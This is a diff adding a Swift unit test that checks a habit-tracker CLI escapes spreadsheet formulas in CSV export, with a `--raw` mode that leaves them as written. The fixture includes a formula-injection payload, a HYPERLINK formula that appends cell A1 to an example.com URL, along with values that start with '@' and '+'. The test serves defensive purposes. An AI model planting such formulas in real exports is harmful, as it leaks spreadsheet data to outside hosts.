@@ -102,3 +102,34 @@ final class ExportCommandTests: XCTestCase {
         XCTAssertEqual((doc["days"] as? [Any])?.count, files)
     }
 }
+
+extension ExportCommandTests {
+    /// A field a spreadsheet would run as a formula gets a `'` in front (OWASP, CWE-1236);
+    /// `--raw` writes it as it is.
+    func testCSVKeepsFormulasOutOfSpreadsheets() throws {
+        let h = try CLIHarness()
+        defer { h.remove() }
+        try h.write("habits.toml", "[habits.read]\nname = \"@Read\"\n\n[habits.walk]\nname = \"+Walk\"\n")
+        try h.write("days/2026/2026-11-20.md", """
+        ## Checklist
+
+        - [x] @Read -- =HYPERLINK("http://example.com/?"&A1,"open")
+        - [x] +Walk -- -2 blocks
+        - [ ] Plain -- a note, with = inside
+
+        """)
+        let r = h.run(["export", "csv"])
+        XCTAssertEqual(r.code, 0, r.stderr)
+        XCTAssertEqual(r.stdout, #"""
+        date,habit,name,state,start,end,minutes,amount,unit,note
+        2026-11-20,read,'@Read,done,,,,,,"'=HYPERLINK(""http://example.com/?""&A1,""open"")"
+        2026-11-20,walk,'+Walk,done,,,,,,'-2 blocks
+        2026-11-20,Plain,Plain,not-done,,,,,,"a note, with = inside"
+
+        """#)
+        let raw = h.run(["export", "csv", "--raw"])
+        XCTAssertEqual(raw.code, 0, raw.stderr)
+        XCTAssertTrue(raw.stdout.contains("2026-11-20,read,@Read,done,,,,,,\"=HYPERLINK("), raw.stdout)
+        XCTAssertTrue(raw.stdout.contains(",+Walk,done,,,,,,-2 blocks\n"), raw.stdout)
+    }
+}
